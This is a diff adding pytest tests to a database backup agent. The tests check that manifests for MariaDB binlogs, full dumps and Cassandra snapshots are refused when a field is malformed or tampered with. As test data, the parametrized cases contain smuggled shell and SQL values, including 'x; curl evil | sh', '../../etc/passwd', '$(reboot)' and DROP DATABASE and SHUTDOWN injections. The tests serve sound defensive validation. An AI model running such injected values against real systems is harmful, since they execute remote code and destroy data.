@@ -111,3 +111,61 @@ def test_binlogs_leave_the_host_only_once_shipped_and_old(tmp_path, monkeypatch,
     monkeypatch.setattr(agent, "_query", lambda conn, sql, args=None: queries.append((sql, args)) or [])
     agent._purge_shipped(None, logs, shipped, str(tmp_path))
     assert queries == ([("PURGE BINARY LOGS TO %s", (expected,))] if expected else [])
+
+
+def _good_manifests() -> dict[str, dict]:
+    """Manifests as the agent writes them, one per kind that carries names and positions."""
+    cfg = {"host": "prod-db1", "stack": "prod", "recipients": ["age1x"]}
+    result = {"size": 10, "sha256": "a" * 64, "seconds": 0.1}
+    base = "backups/prod-db1"
+    return {
+        f"{base}/mariadb-full/f.zst.age": agent._manifest(
+            cfg, "mariadb-full", f"{base}/mariadb-full/f.zst.age", result, gtid="0-1-5,1-2-9", database="hastack",
+            checksums={"gtid": "0-1-7", "tables": {"orders": {"rows": 1, "digest": "3"}}}),
+        f"{base}/mariadb-binlog/b.zst.age": agent._manifest(
+            cfg, "mariadb-binlog", f"{base}/mariadb-binlog/b.zst.age", result, binlog="mysql-bin.000012",
+            gtid_start="0-1-5", gtid_end="0-1-9"),
+        f"{base}/cassandra-snapshot/c.tar.zst.age": agent._manifest(
+            cfg, "cassandra-snapshot", f"{base}/cassandra-snapshot/c.tar.zst.age", result, tag="hastack-1",
+            tables={"app.events": {"files": 8, "bytes": 100}}),
+    }
+
+
+def test_a_manifest_as_the_agent_writes_it_is_taken():
+    for key, manifest in _good_manifests().items():
+        assert agent.checked_manifest(manifest, key) is manifest
+
+
+@pytest.mark.parametrize("kind, change, field", [
+    # names and positions that restores put into shell commands and SQL text, as root
+    ("mariadb-binlog", {"binlog": "x; curl evil | sh"}, "binlog"),
+    ("mariadb-binlog", {"binlog": "../../etc/passwd"}, "binlog"),
+    ("mariadb-binlog", {"gtid_end": "0-1-9' OR '1"}, "gtid_end"),
+    ("mariadb-full", {"gtid": "$(reboot)"}, "gtid"),
+    ("mariadb-full", {"database": "hastack`; DROP DATABASE mysql; --"}, "database"),
+    ("mariadb-full", {"checksums": {"gtid": "0-1-7'; SHUTDOWN; --", "tables": {}}}, "checksums.gtid"),
+    ("cassandra-snapshot", {"tag": "-rf"}, "tag"),
+    ("cassandra-snapshot", {"tables": {"app.events; DROP KEYSPACE app": {}}}, "table"),
+    ("mariadb-full", {"sha256": "not a digest"}, "sha256"),
+    # a manifest copied beside another object, or of another kind
+    ("mariadb-full", {"object": "backups/prod-db1/mariadb-full/other.zst.age"}, "describes"),
+    ("mariadb-binlog", {"kind": "mariadb-full"}, "kind"),
+])
+def test_a_manifest_with_a_field_out_of_form_is_refused_by_name(kind, change, field):
+    key, manifest = next((k, m) for k, m in _good_manifests().items() if m["kind"] == kind)
+    with pytest.raises(agent.ManifestError, match=field.replace(".", r"\.")) as refused:
+        agent.checked_manifest(manifest | change, key)
+    assert key in str(refused.value)
+
+
+def test_a_restore_refuses_a_tampered_manifest_from_the_bucket(bucket):
+    from roles.backup.restore import RestoreError, Source
+
+    b, s3, cfg = bucket
+    key = b.key("mariadb-binlog", "b.zst.age")
+    manifest = agent._manifest(cfg, "mariadb-binlog", key, {"size": 1, "sha256": "b" * 64, "seconds": 0.0},
+                               binlog="mysql-bin.000001; id", gtid_start="0-1-1", gtid_end="0-1-2")
+    s3.put_object(Bucket=BUCKET, Key=key + ".manifest.json", Body=json.dumps(manifest).encode())
+    source = Source(stack="prod", outputs={"backupBucket": BUCKET}, _client=s3)
+    with pytest.raises(RestoreError, match="binlog="):
+        source.manifest(key)
